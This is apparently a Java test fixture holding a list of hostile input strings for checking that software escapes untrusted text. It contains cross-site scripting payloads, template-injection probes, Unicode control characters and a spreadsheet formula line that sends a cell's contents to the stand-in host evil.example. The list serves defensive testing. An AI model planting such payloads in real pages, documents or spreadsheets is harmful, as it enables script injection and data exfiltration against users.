package org.sverka.testing;

import java.util.List;

/** Texts that want to be more than text. */
public final class Hostile {
  public static final List<String> TEXTS =
      List.of(
          "<script>window.hacked = 1</script>",
          "\"><img src=x onerror=\"window.hacked = 2\">",
          "' onmouseover='window.hacked = 3' x='",
          "</title></style></textarea></table><svg onload=\"window.hacked = 4\">",
          "{{7*7}} ${7*7} @{x} #{x} %s {0}",
          "javascript:window.hacked=5",
          "=IMPORTXML(\"https://evil.example/?\"&A1;\"//x\")",
          "текст \u202Eмарг\u202C \u200Bнулевой\u200B \u0001\u0085 \u2028 \u2029 конец",
          "<!-- --><![CDATA[ ]]><?php ?>&lt;b&gt;&#x3c;",
          "]]></script><script>window.hacked = 6</script>",
          "\uFEFF\uD83D\uDE80 0\u0301 \uFFFE");

  /** All of them in one text. */
  public static final String ALL = String.join("\n", TEXTS);

  private Hostile() {}
}
